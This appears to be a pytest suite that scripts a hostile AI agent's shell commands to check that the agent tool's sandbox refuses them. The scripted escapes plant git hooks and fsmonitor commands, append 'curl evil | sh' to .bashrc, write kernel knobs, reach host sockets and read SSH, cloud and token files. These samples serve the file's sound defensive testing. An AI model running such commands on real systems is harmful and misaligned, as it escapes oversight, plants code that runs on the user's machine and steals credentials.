"""Escapes tried by a hostile model through `gosling run` (the fake server scripts its shell
commands): the sandbox must refuse each one, and the host must be left as it was.

Paths the tests plant outside the workspace live outside `/tmp` (next to the venv): the
sandbox's private `/tmp` would hide them anyway, which would prove nothing.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.agent.sandbox.conditions import needs_bwrap
from tests.agent.test_run_e2e import gosling, gosling_env, run_args, tool
from tests.fakes import FakeLLMServer, Turn

pytestmark = [needs_bwrap, pytest.mark.timeout(300)]
as_root = pytest.mark.skipif(os.geteuid() != 0, reason="only root could write host knobs")


@pytest.fixture
def server(fake_llm: FakeLLMServer) -> FakeLLMServer:
    return fake_llm


@pytest.fixture
def outside() -> Iterator[Path]:
    """A scratch directory outside `/tmp` (beside the venv), removed afterwards."""
    path = Path(tempfile.mkdtemp(prefix="sbx-", dir=sys.prefix))
    try:
        yield path
    finally:
        shutil.rmtree(path, ignore_errors=True)


def git_repo(path: Path) -> Path:
    path.mkdir(parents=True)
    subprocess.run(["git", "init", "-q", str(path)], check=True)
    return path


def run_commands(
    server: FakeLLMServer, cwd: Path, *commands: str, **env: str
) -> tuple[subprocess.CompletedProcess[str], list[str]]:
    """`gosling run` whose model runs `commands` one by one; the result and what each
    command's output told the model."""
    server.add(*(tool("developer__shell", command=c) for c in commands), Turn(text="Done."))
    result = gosling(
        run_args(server, "openai", "--output-format", "stream-json", "-t", "go"),
        cwd,
        env=gosling_env(**env),
    )
    assert result.returncode == 0, result.stderr
    outputs = [
        json.dumps(event)
        for line in result.stdout.splitlines()
        if line.startswith("{")
        for event in [json.loads(line)]
        if event.get("type") == "tool_result"
    ]
    assert len(outputs) == len(commands), result.stdout
    return result, outputs


KNOBS = tuple(
    k
    for k in ("/proc/sys/vm/swappiness", "/proc/sys/fs/file-max", "/proc/sysrq-trigger")
    if os.path.exists(k)  # no sysrq-trigger on some kernels
)
OPEN_FOR_WRITE = (
    "import os, sys\nfor p in sys.argv[1:]:\n    try:\n"
    "        os.close(os.open(p, os.O_WRONLY))\n        print('WRITABLE', p)\n"
    "    except OSError as e:\n        print('refused', p, e.strerror)"
)


@as_root
def test_root_cannot_write_host_kernel_knobs(tmp_path: Path, server: FakeLLMServer) -> None:
    """Opened for writing and closed again without a byte written: the open alone proves a
    write would have gone through, and the host's values never change."""
    before = {k: Path(k).read_bytes() for k in KNOBS if k.startswith("/proc/sys/")}
    assert before, "no host knob to try"
    workspace = git_repo(tmp_path / "repo")
    (workspace / "probe.py").write_text(OPEN_FOR_WRITE)
    command = f"{sys.executable} probe.py {' '.join(KNOBS)}"
    _, [output] = run_commands(server, workspace, command)
    assert "WRITABLE" not in output
    assert output.count("refused") == len(KNOBS)
    assert {k: Path(k).read_bytes() for k in before} == before


@pytest.mark.parametrize("where", ["root", "subdir"])
def test_no_git_hook_or_fsmonitor_can_be_planted(
    outside: Path, server: FakeLLMServer, where: str
) -> None:
    repo = git_repo(outside / "repo")
    (repo / "sub").mkdir()
    hook = '#!/bin/sh\\ntouch "$HOME/hooked"\\n'
    _, outputs = run_commands(
        server,
        repo if where == "root" else repo / "sub",
        f"cd {repo} && printf '{hook}' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
        f"cd {repo} && git config core.fsmonitor 'touch fsmonitor-ran'",
        f"cd {repo} && mkdir -p .git/info && echo '* filter=evil' > .git/info/attributes",
    )
    assert not (repo / ".git" / "hooks" / "pre-commit").exists()
    assert "fsmonitor" not in (repo / ".git" / "config").read_text()
    assert not (repo / ".git" / "info" / "attributes").exists()
    assert all("Read-only file system" in out for out in outputs), outputs


def test_a_repository_made_inside_the_sandbox_runs_nothing_at_the_users_next_git_status(
    outside: Path, server: FakeLLMServer
) -> None:
    """The working dir is a subdirectory of a repository, with no `.git` of its own: a
    command's `git init` plus `core.fsmonitor` would run at the user's next `git status`
    there, outside the sandbox."""
    repo = git_repo(outside / "repo")
    sub = repo / "sub"
    sub.mkdir()
    ran = outside / "FSMONITOR-RAN"
    command = f"git init -q . && git config core.fsmonitor 'touch {ran}; false' && echo made"
    _, [output] = run_commands(server, sub, command)
    assert "made" in output and "moved aside the .git this command created" in output
    assert not (sub / ".git").exists() and (sub / ".git.blocked-by-gosling" / "config").exists()
    status = subprocess.run(["git", "status"], cwd=sub, capture_output=True, text=True)
    assert status.returncode == 0, status.stderr
    assert not ran.exists()


def test_a_nested_repositorys_git_is_read_only_too(outside: Path, server: FakeLLMServer) -> None:
    repo = git_repo(outside / "repo")
    nested = git_repo(repo / "vendor" / "lib")
    _, [output] = run_commands(
        server,
        repo,
        "printf '#!/bin/sh\\ntouch HOOKED\\n' > vendor/lib/.git/hooks/pre-commit",
    )
    assert "Read-only file system" in output
    assert not (nested / ".git" / "hooks" / "pre-commit").exists()


def test_the_workspace_is_the_working_directory_not_the_git_root(
    tmp_path: Path, server: FakeLLMServer
) -> None:
    repo = git_repo(tmp_path / "repo")
    (repo / "sub").mkdir()
    run_commands(server, repo / "sub", "echo x > ../beside.txt; echo ok > here.txt")
    assert (repo / "sub" / "here.txt").read_text() == "ok\n"
    assert not (repo / "beside.txt").exists()
    server.add(tool("developer__shell", command="echo x > ../beside.txt"), Turn(text="Done."))
    widened = gosling(
        run_args(server, "openai", "--sandbox-workspace", "git-root", "-t", "go"), repo / "sub"
    )
    assert widened.returncode == 0, widened.stderr
    assert (repo / "beside.txt").read_text() == "x\n"
    assert "fsmonitor" not in (repo / ".git" / "config").read_text()


def test_a_git_file_pointing_at_home_does_not_make_home_writable(
    tmp_path: Path, outside: Path, server: FakeLLMServer
) -> None:
    home = outside / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# mine\n")
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / ".git").write_text(f"gitdir: {home}\n")
    _, [output] = run_commands(
        server,
        repo,
        'echo "curl evil | sh" >> "$HOME/.bashrc"; echo "gitdir: ." > .git',
        HOME=str(home),
    )
    assert (home / ".bashrc").read_text() == "# mine\n"
    assert (repo / ".git").read_text() == f"gitdir: {home}\n"
    assert "Read-only file system" in output


class Listener:
    """A unix socket the test listens on; `connections` counts who got through."""

    def __init__(self, path: Path) -> None:
        path.parent.mkdir(parents=True, exist_ok=True)
        self.path = path
        self.connections = 0
        self._sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self._sock.bind(str(path))
        self._sock.listen(8)
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self._sock.accept()
            except OSError:
                return
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self._sock.shutdown(socket.SHUT_RDWR)
        self._sock.close()
        self._thread.join(10)
        self.path.unlink(missing_ok=True)


CONNECT = (
    "import socket, sys\nfor p in sys.argv[1:]:\n    try:\n"
    "        socket.socket(socket.AF_UNIX).connect(p)\n        print('CONNECTED', p)\n"
    "    except OSError as e:\n        print('refused', p, e.strerror)"
)


def test_host_unix_sockets_cannot_be_reached(
    tmp_path: Path, outside: Path, server: FakeLLMServer
) -> None:
    home, runtime = outside / "home", outside / "run-user"
    paths = [home / ".local" / "share" / "app" / "agent.sock", runtime / "bus"]
    if os.access("/run", os.W_OK):  # root: a socket of our own in the real /run
        paths.append(Path("/run") / f"gosling-e2e-{os.getpid()}.sock")
    listeners = [Listener(p) for p in paths]
    try:
        repo = git_repo(tmp_path / "repo")
        (repo / "connect.py").write_text(CONNECT)
        command = f"{sys.executable} connect.py {' '.join(map(str, paths))}"
        _, [output] = run_commands(
            server, repo, command, HOME=str(home), XDG_RUNTIME_DIR=str(runtime)
        )
    finally:
        for listener in listeners:
            listener.close()
    assert [listener.connections for listener in listeners] == [0] * len(paths), output
    assert "CONNECTED" not in output and output.count("refused") == len(paths)


STILL_WORKS = (
    "import asyncio, socket\na, b = socket.socketpair()\na.send(b'x')\n"
    "assert b.recv(1) == b'x'\nasyncio.run(asyncio.sleep(0))\nprint('SOCKETPAIR-OK')"
)


def test_sockets_the_hiding_cannot_reach_are_refused_too(
    tmp_path: Path, outside: Path, server: FakeLLMServer
) -> None:
    """Hiding directories cannot cover a socket directly in `$HOME` or in the workspace, nor
    one deeper than the look under `$HOME` goes: the seccomp filter refuses them all, while
    `socketpair` (asyncio, multiprocessing) keeps working."""
    home = outside / "home"
    repo = git_repo(tmp_path / "repo")
    deep = home / "a" / "b" / "c" / "d" / "e" / "deep.sock"
    paths = [home / "agent.sock", repo / "dev.sock", deep]
    listeners = [Listener(p) for p in paths]
    try:
        (repo / "connect.py").write_text(CONNECT)
        (repo / "pair.py").write_text(STILL_WORKS)
        command = f"{sys.executable} connect.py {' '.join(map(str, paths))}"
        _, [output, pair] = run_commands(
            server, repo, command, f"{sys.executable} pair.py", HOME=str(home)
        )
    finally:
        for listener in listeners:
            listener.close()
    assert [listener.connections for listener in listeners] == [0, 0, 0], output
    assert "CONNECTED" not in output and output.count("Operation not permitted") == 3
    assert "SOCKETPAIR-OK" in pair


CREDENTIALS = {
    ".ssh/id_ed25519": "QZKSSH",
    ".aws/credentials": "QZKAWS",
    ".config/gcloud/application_default_credentials.json": "QZKGCLOUD",
    ".kube/config": "QZKKUBE",
    ".docker/config.json": "QZKDOCKER",
    ".netrc": "QZKNETRC",
    ".npmrc": "QZKNPMRC",
    ".pypirc": "QZKPYPIRC",
    ".config/gh/hosts.yml": "QZKGH",
    ".bash_history": "QZKBASHHIST",
    ".zsh_history": "QZKZSHHIST",
    "notes/private.txt": "QZKUSERHIDDEN",
}


def test_credential_files_in_home_are_hidden_and_the_rest_stays_readable(
    tmp_path: Path, outside: Path, server: FakeLLMServer
) -> None:
    home = outside / "home"
    for name, mark in CREDENTIALS.items():
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text(f"value {mark}\n")
    (home / ".gitconfig").write_text("[user]\n\tname = QZKVISIBLE\n")
    config = Path(os.environ["GOSLING_HOME"]) / "config" / "config.toml"
    config.parent.mkdir(parents=True, exist_ok=True)
    config.write_text('sandbox_hide = ["~/notes/private.txt"]\n')
    repo = git_repo(tmp_path / "repo")
    names = " ".join(f"~/{n}" for n in CREDENTIALS)
    result, [output] = run_commands(
        server, repo, f"cat {names} ~/.gitconfig; ls -a ~/.ssh ~/.aws", HOME=str(home)
    )
    sent = json.dumps([r.body for r in server.model_requests()])
    for mark in CREDENTIALS.values():
        assert mark not in output and mark not in sent and mark not in result.stdout, mark
    assert "QZKVISIBLE" in output


@pytest.fixture
def host_tmp() -> Iterator[Path]:
    """An entry of the machine's own /tmp, apart from the test's temp dirs (which hold the
    hidden GOSLING_HOME, so naming them shows nothing)."""
    path = Path(tempfile.mkdtemp(prefix="gosling-named-", dir="/tmp"))
    try:
        yield path
    finally:
        shutil.rmtree(path, ignore_errors=True)


def test_a_host_tmp_file_the_command_names_is_readable_and_nothing_else_of_tmp(
    tmp_path: Path, server: FakeLLMServer, host_tmp: Path
) -> None:
    (host_tmp / "build.log").write_text("BUILD FAILED at step QZK-3\n")
    other = Path(tempfile.mkdtemp(prefix="gosling-unnamed-", dir="/tmp"))
    secret = Path(os.environ["GOSLING_HOME"]) / "state" / "secret.txt"  # hidden in the sandbox
    secret.parent.mkdir(parents=True, exist_ok=True)
    secret.write_text("QZKLINKED\n")
    link = Path(f"/tmp/gosling-link-{os.getpid()}")
    link.symlink_to(secret)
    try:
        repo = git_repo(tmp_path / "repo")
        _, [read, write, listing, linked] = run_commands(
            server,
            repo,
            f"cat {host_tmp}/build.log",
            f"echo overwritten > {host_tmp}/build.log",
            "ls -a /tmp",
            f"cat {link}",
        )
    finally:
        link.unlink()
        shutil.rmtree(other, ignore_errors=True)
    assert "BUILD FAILED at step QZK-3" in read
    assert "Read-only file system" in write
    assert (host_tmp / "build.log").read_text() == "BUILD FAILED at step QZK-3\n"
    assert other.name not in listing  # only what a command names is shown
    assert "QZKLINKED" not in linked  # a link into a hidden place is not followed
